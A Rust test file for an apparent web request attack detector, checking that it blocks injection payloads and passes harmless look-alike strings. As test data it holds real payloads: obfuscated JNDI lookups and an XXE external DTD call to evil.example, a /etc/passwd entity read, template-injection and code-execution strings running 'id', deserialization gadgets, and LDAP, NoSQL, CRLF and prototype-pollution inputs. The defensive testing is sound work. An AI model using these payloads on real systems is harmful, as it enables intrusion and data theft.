#![allow(clippy::unwrap_used, clippy::expect_used)]
use crate::detect::score_of;
use crate::extract::Origin;
use crate::settings::Class;

const BLOCK: u32 = 60;

fn check(class: Class, origin: Origin, attacks: &[&str], legit: &[&str]) {
    for a in attacks {
        let s = score_of(a, origin, class);
        assert!(s >= BLOCK, "{class}: should block {a:?}: {s}");
    }
    for l in legit {
        let s = score_of(l, origin, class);
        assert!(s < BLOCK, "{class}: should pass {l:?}: {s}");
    }
}

#[test]
fn jndi_lookups() {
    check(
        Class::Jndi,
        Origin::Header,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x}",
            "${${upper:J}${upper:N}DI:dns://x}",
            "prefix ${jndi:ldap://x",
        ],
        &["${name}", "Total: ${price} USD", "${", "jndi is a Java API"],
    );
}

#[test]
fn template_injection() {
    check(
        Class::Ssti,
        Origin::JsonValue,
        &[
            "{{7*7}}",
            "{{ 7 * '7' }}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{config.items()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{constructor.constructor('alert(1)')()}}",
        ],
        &[
            "{{ customer.first_name }}",
            "Hello {{name}}, your order {{order.id}} shipped",
            "${price}",
            "{% if user %}Hi{% endif %}",
            "dates 2024-01-02",
            "{{ total | currency }}",
        ],
    );
}

#[test]
fn nosql_operators() {
    check(
        Class::Nosqli,
        Origin::JsonKey,
        &["$ne", "$gt", "$where", "$regex", "$elemMatch"],
        &["$type", "price", "$"],
    );
    check(
        Class::Nosqli,
        Origin::ParamName,
        &["password[$ne]", "user[$regex]", "filter[$where]"],
        &["filter[status]", "price[gte]", "sort[$]"],
    );
    check(
        Class::Nosqli,
        Origin::ParamValue,
        &["{\"$where\": \"sleep(100)\"}", "{\"owner\":{\"$ne\":null}}"],
        &["costs $5", "I paid $ne"],
    );
}

#[test]
fn ldap_filters() {
    check(
        Class::Ldapi,
        Origin::ParamValue,
        &[
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "x)(|(objectClass=*)",
            "val)|(cn=*",
            "*)!(sn=*",
        ],
        &[
            "(see above)(2)",
            "smile :)(",
            "John (Johnny) Smith",
            "f(x)(y)",
        ],
    );
}

#[test]
fn deserialization_signatures() {
    check(
        Class::Deserialization,
        Origin::ParamValue,
        &[
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
            "aced00057372001",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "!!python/object/apply:os.system ['id']",
            "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u",
            "java.lang.Runtime",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
            "cos\nsystem\n(S'id'\ntR.",
            // The stream magic one and two bytes into a base64 blob.
            "eKztAAVzcgARamF2YS51dGlsLkhhc2hNYXA=",
            "eHms7QAFc3IAEWphdmEudXRpbC5IYXNoTWFw",
        ],
        &[
            "O: 8 points",
            "Java is a language",
            "java.com is a site",
            "a:2 score",
            "Oh:no:\"x\"",
            "BAh",
            "zztAAbc",
            "s7QA",
        ],
    );
}

#[test]
fn prototype_pollution() {
    check(
        Class::PrototypePollution,
        Origin::JsonKey,
        &["__proto__"],
        &["proto", "prototype_id"],
    );
    check(
        Class::PrototypePollution,
        Origin::ParamName,
        &[
            "__proto__[isAdmin]",
            "a[constructor][prototype][x]",
            "__proto__.polluted",
        ],
        &["constructor", "constructor_name"],
    );
}

#[test]
fn crlf_injection() {
    check(
        Class::Crlf,
        Origin::Header,
        &[
            "en\r\nSet-Cookie: a=b",
            "x\r\nLocation: https://evil.example/",
            "x\r\n\r\n<html>",
        ],
        &["plain value"],
    );
    check(
        Class::Crlf,
        Origin::JsonValue,
        &["Hi\r\nBcc: victim@example.com"],
        &[
            "Line one\nLine two\nThanks: Anna",
            "Note:\nbring an umbrella\nhttps://example.com",
        ],
    );
}

#[test]
fn xml_entities() {
    check(
        Class::Xxe,
        Origin::XmlDoctype,
        &[
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>",
        ],
        &["<!DOCTYPE html>"],
    );
}

#[test]
fn code_injection() {
    check(
        Class::CodeInjection,
        Origin::ParamValue,
        &[
            "<?php system($_GET['c']); ?>",
            "phpinfo();",
            "system('id')",
            "exec/*x*/('id')",
            "$_GET['x']($_POST['y'])",
            "require('child_process').exec('id')",
            "__import__('os').system('id')",
            "while(true){}",
            "Runtime.getRuntime().exec(\"id\")",
        ],
        &[
            "I am running a tap system (Sankey).",
            "the system works",
            "exec summary attached",
            "Total $5 (incl. VAT)",
            "eval period ends Friday",
        ],
    );
}

#[test]
fn issue_5_php_call_cut_inside_a_character() {
    // Found by the `misc` and `judge` fuzz targets: an unclosed PHP call whose value ends
    // (or whose 512-byte argument window ends) inside a multi-byte character panicked.
    for v in [
        "system(é",
        "require('chiequire(' tq{    'x'Ó",
        &format!("system({}", "aé".repeat(200)),
        &format!("system(a{}", "é".repeat(300)),
    ] {
        let _ = score_of(v, Origin::ParamValue, Class::CodeInjection);
        let _ = score_of(v, Origin::FileContent, Class::CodeInjection);
    }
    assert!(score_of("system('id')", Origin::ParamValue, Class::CodeInjection) >= BLOCK);
}
